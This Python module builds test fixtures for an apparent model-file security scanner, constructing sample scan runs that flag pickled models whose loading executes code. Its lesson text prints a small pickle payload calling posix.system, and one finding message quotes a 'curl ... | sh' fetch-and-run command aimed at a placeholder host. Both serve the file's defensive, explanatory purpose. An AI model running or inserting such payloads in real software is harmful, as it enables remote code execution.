"""Run records built from the structs of ``core``, as a scan would leave them."""

from __future__ import annotations

from aisecops.core.asset import Asset, AssetKind, FileVerdict, LoaderVerdict
from aisecops.core.digest import fingerprint
from aisecops.core.examination import Code, LeftOut, NotExamined
from aisecops.core.finding import Finding, Fix, FlowStep, Location
from aisecops.core.measurement import Better, Bound, Measurement
from aisecops.core.run import PlannedCheck, Results, Root, Run, RunInfo, Tool
from aisecops.core.taxonomy import Confidence, Reference, Severity, Stage, Threat
from aisecops.core.verdict import FindingStatus, Outcome, RuleOutcome, Status, Verdict, WaiverUse

LESSON = """Find callables that run while a model file is loaded.

    What it finds
        Pickle is a programming language: a stream can name any callable
        and call it.

    Example
        Loading this file prints the user's name::

            pickle.loads(b"cposix\\nsystem\\n(S'id'\\ntR.")

    How to fix
        Do not load the file. Use safetensors.
    """
LESSONS = {"model-file/code-execution": LESSON}

CODE_EXECUTION = PlannedCheck(
    id="model-file/code-execution",
    version=1,
    title="Loading the file runs code",
    threat=Threat.SUPPLY_CHAIN,
    stage=Stage.RELEASE,
    categories=("unsafe-deserialization",),
    refs=(Reference("cwe", "4.20", "CWE-502"), Reference("mitre-atlas", "5.6.0", "AML.T0011.000")),
    planned=9,
)
UNKNOWN = PlannedCheck(
    id="model-file/unknown-callable",
    version=1,
    title="The file uses callables that nobody can judge from the file",
    threat=Threat.SUPPLY_CHAIN,
    stage=Stage.RELEASE,
    categories=("unknown-callable",),
    refs=(),
    planned=9,
)
SKIPPED = PlannedCheck(
    id="notebook/secrets",
    version=1,
    title="Secrets in notebooks",
    threat=Threat.PRIVACY,
    stage=Stage.CODE,
    categories=("secret",),
    refs=(),
    planned=0,
    skipped="no notebook in the project",
)


def finding(path: str = "models/clf.pkl", offset: int | None = 31, **fields: object) -> Finding:
    """A finding of code execution; ``fields`` replace what it says."""
    said: dict[str, object] = {
        "check": "model-file/code-execution",
        "category": "unsafe-deserialization",
        "title": "Loading runs posix.system",
        "message": "Loading this file would run posix.system('curl https://example.invalid/x | sh'): it starts a process.",
        "severity": Severity.CRITICAL,
        "confidence": Confidence.HIGH,
        "root_cause": "unsafe-deserialization: posix.system",
        "fix": Fix("Do not load it. Get the weights as safetensors, or retrain the model."),
        "locations": (Location(path=path, offset=offset),),
    } | fields
    mark = fingerprint(str(said["check"]), str(said["category"]), str(said["title"]))
    said = {"id": fingerprint(mark, path, str(offset), repr(said["locations"]))[:12], "fingerprint": mark, "asset": f"model-file:{path}"} | said
    return Finding(threat=Threat.SUPPLY_CHAIN, stage=Stage.RELEASE, **said)  # type: ignore[arg-type]


def unknown(path: str = "models/pipeline.joblib") -> Finding:
    """A finding for review."""
    return finding(
        path,
        1204,
        check="model-file/unknown-callable",
        category="unknown-callable",
        title="Uses credit.features.Binner",
        message="Loading imports credit.features and calls Binner: whether that is harmless, the file does not tell.",
        severity=Severity.MEDIUM,
        confidence=Confidence.MEDIUM,
        root_cause="unknown-callable: credit.features.Binner",
        fix=Fix(
            "If the class is yours, allow it: model-files.allow: - {callable: credit.features.Binner, operations: [instantiate, state], "
            "owner: NAME, reason: WHY, expires: YYYY-MM-DD}"
        ),
    )


def model(path: str, verdict: FileVerdict, callables: tuple[str, ...] = ()) -> Asset:
    """A model file with its evidence."""
    return Asset(
        id=f"model-file:{path}",
        kind=AssetKind.MODEL_FILE,
        path=path,
        digest="sha256:" + "0" * 64,
        size=2048,
        verdict=verdict,
        loaders=(LoaderVerdict("pickle.load", verdict), LoaderVerdict("joblib.load", verdict)),
        facts={"format": "pickle", "callables": len(callables), "allowed": [{"callable": name, "rule": "x"} for name in callables]},
    )


def source(path: str) -> Asset:
    """A source file."""
    return Asset(id=f"source-file:{path}", kind=AssetKind.SOURCE_FILE, path=path, digest="sha256:" + "1" * 64, size=300)


def record(results: Results, outcome: Outcome, rules: tuple[RuleOutcome, ...], **parts: object) -> Run:
    """Put a run together as the scan does."""
    results_digest = str(parts.pop("results_digest", "") or results.digest())
    info = {
        "id": "20261101T100000-3f2a9c",
        "started": "2026-11-01T10:00:00.120Z",
        "finished": "2026-11-01T10:00:00.430Z",
        "tool": Tool("aisecops", "0.1.0"),
        "command": ("aisecops", "scan", "examples/hostile"),
        "seed": 0,
        "roots": (Root(path="."),),
        "incomplete": False,
        "results_digest": results_digest,
    }
    info |= {name: parts.pop(name) for name in list(parts) if name in RunInfo.__struct_fields__}
    verdict = Verdict(
        outcome=outcome,
        policy="standard",
        policy_digest="sha256:" + "2" * 64,
        evaluated="2026-11-01T10:00:00.430Z",
        results_digest=results_digest,
        rules=rules,
        statuses=parts.pop("statuses", tuple(FindingStatus(finding=f.id, status=Status.OPEN) for f in results.findings)),  # type: ignore[arg-type]
        waivers=parts.pop("waivers", ()),  # type: ignore[arg-type]
    )
    assert not parts
    return Run.of(RunInfo(**info), results, verdict)  # type: ignore[arg-type]


PASSED = RuleOutcome(id="no-critical", outcome=Outcome.PASS, reason="no open finding of critical severity")
NOTHING_LEFT = RuleOutcome(id="model-files-examined", outcome=Outcome.PASS, reason="every model file was examined to the last byte")


def clean() -> Run:
    """A small project where all is well."""
    assets = (
        source("train.py"),
        model("models/clf.pkl", FileVerdict.CLEAN, ("sklearn.linear_model._logistic.LogisticRegression", "numpy._core.multiarray._reconstruct")),
        model("models/clf.joblib", FileVerdict.CLEAN, ("joblib.numpy_pickle.NumpyArrayWrapper", "numpy.dtype", "numpy.ndarray")),
        model("models/weights.npy", FileVerdict.CLEAN),
    )
    return record(Results(checks=(CODE_EXECUTION, UNKNOWN, SKIPPED), assets=assets), Outcome.PASS, (PASSED, NOTHING_LEFT))


def hostile() -> Run:
    """A small project with something of everything."""
    findings = (
        finding(),
        finding(
            "models/bundle.zip",
            77,
            locations=tuple(Location(path="models/bundle.zip", member="inner/data.pkl", offset=n) for n in (77, 99, 1024, 4096)),
        ),
        finding("old/clf-v1.pkl"),
        finding("old/clf-v2.pkl"),
        unknown(),
        finding(
            "train.py",
            None,
            check="code/unsafe-load",
            category="unsafe-load",
            title="joblib.load of a file that somebody else can write",
            message="The path comes from the command line and is loaded without a check.",
            severity=Severity.HIGH,
            root_cause="",
            locations=(Location(path="train.py", line=12, column=5), Location(path="explore.ipynb", cell=3, line=2)),
            flow=(FlowStep("train.py", 4, "the path is read from argv"), FlowStep("train.py", 12, "and loaded here")),
            fix=Fix("Load by digest: aisecops.verify(path) first."),
        ),
        finding("legacy/known.pkl", title="Loading runs builtins.eval", root_cause="unsafe-deserialization: builtins.eval"),
        finding("tests/data/evil.pkl", title="Loading runs builtins.exec", root_cause="", suppressed="a test fixture"),
    )
    gaps = (
        NotExamined(
            code=Code.NO_PARSER,
            reason="no parser for HDF5 yet",
            remedy="convert it to safetensors",
            path="models/a.h5",
            asset="model-file:models/a.h5",
        ),
        NotExamined(
            code=Code.NO_PARSER,
            reason="no parser for HDF5 yet",
            remedy="convert it to safetensors",
            path="models/b.h5",
            asset="model-file:models/b.h5",
        ),
        NotExamined(
            code=Code.TRUNCATED,
            reason="the stream ends inside an opcode",
            path="models/half.pkl",
            member="data.pkl",
            check="model-file/code-execution",
        ),
        NotExamined(code=Code.UNREADABLE, reason="Git LFS pointer, not the file", remedy="git lfs pull", path="models/big.bin"),
    )
    results = Results(
        checks=(CODE_EXECUTION, UNKNOWN, SKIPPED),
        assets=(
            source("train.py"),
            *(model(path, FileVerdict.BLOCK) for path in ("models/clf.pkl", "models/bundle.zip", "old/clf-v1.pkl", "old/clf-v2.pkl")),
            model("models/pipeline.joblib", FileVerdict.REVIEW),
            model("models/half.pkl", FileVerdict.INCOMPLETE),
            model("models/good.pkl", FileVerdict.CLEAN, ("collections.OrderedDict", "numpy.dtype")),
        ),
        findings=findings,
        measurements=(
            Measurement(
                id="m1", check="model/robust-accuracy", assets=("model:clf",), name="robust accuracy", value=0.42, unit="", n=500, low=0.377, high=0.465,
                level=0.95, method="clopper-pearson", better=Better.HIGHER, bound=Bound.ATTACK,
            ),
        ),
        not_examined=gaps,
        left_out=(LeftOut(path="build", reason="ignored by .gitignore", count=12), LeftOut(path="../x", reason="link out of the tree")),
    )  # fmt: skip
    statuses = (
        *(FindingStatus(finding=f.id, status=Status.OPEN) for f in findings[:-2]),
        FindingStatus(finding=findings[-2].id, status=Status.WAIVED, waiver="W-7"),
        FindingStatus(finding=findings[-1].id, status=Status.SUPPRESSED),
    )
    rules = (
        RuleOutcome(
            id="no-critical", outcome=Outcome.FAIL, reason="4 open findings of critical severity; none is allowed", findings=(findings[0].id,)
        ),
        RuleOutcome(id="model-files-examined", outcome=Outcome.INCOMPLETE, reason="3 model files were not examined"),
        PASSED,
    )
    waivers = (
        WaiverUse(id="W-7", owner="Ada", reason="read by hand, replaced in May", expires="2027-05-01", used=1),
        WaiverUse(id="W-3", owner="Grace", reason="old", expires="2026-01-01", used=0, expired=True),
    )
    return record(results, Outcome.FAIL, rules, statuses=statuses, waivers=waivers)


def many(n: int) -> Run:
    """A run with ``n`` findings of as many root causes, in as many files."""
    severities = tuple(Severity)
    findings = tuple(
        finding(f"models/m{i:05}.pkl", i, title=f"Loading runs pkg{i}.run", root_cause=f"c{i}", severity=severities[i % 5]) for i in range(n)
    )
    rule = RuleOutcome(id="no-critical", outcome=Outcome.FAIL, reason=f"{n} open findings")
    return record(Results(checks=(CODE_EXECUTION,), findings=findings), Outcome.FAIL, (rule,))


def swept() -> Run:
    """A run whose check tried settings of a defence: every number of one for each of the others, and one that is recommended."""
    numbers = {"as it is": (0.749, 0.0, 0.958, 0.965), "depth=2": (0.691, -0.0573, 0.551, 0.576), "depth=4": (0.733, -0.0157, 0.621, 0.645),
               "leaf=20 rows": (0.746, -0.00233, 0.669, 0.692)}  # fmt: skip
    measured = [
        Measurement(
            id=f"{name}{subject}", check="model/defence-sweep", assets=("model:m",), name=name, subject=subject, value=value, unit="1", n=300, low=0.0, high=high,
            level=0.95, better=better, bound=bound,
        )
        for subject, (accuracy, change, leak, most) in numbers.items()
        for name, value, high, better, bound in (
            ("defended-accuracy", accuracy, 0.8, Better.HIGHER, Bound.ESTIMATE),
            ("defended-accuracy-change", change, 0.0, Better.HIGHER, Bound.ESTIMATE),
            ("defended-membership-auc", leak, most, Better.LOWER, Bound.ATTACK),
        )
    ]  # fmt: skip
    chosen = Measurement(
        id="chosen",
        check="model/defence-sweep",
        assets=("model:m",),
        name="defence-recommended",
        subject="leaf=20 rows",
        value=1.0,
        unit="settings",
        n=3,
    )
    return record(
        Results(assets=(Asset(id="model:m", kind=AssetKind.MODEL, path="m.joblib"),), measurements=(*measured, chosen)), Outcome.PASS, (PASSED,)
    )
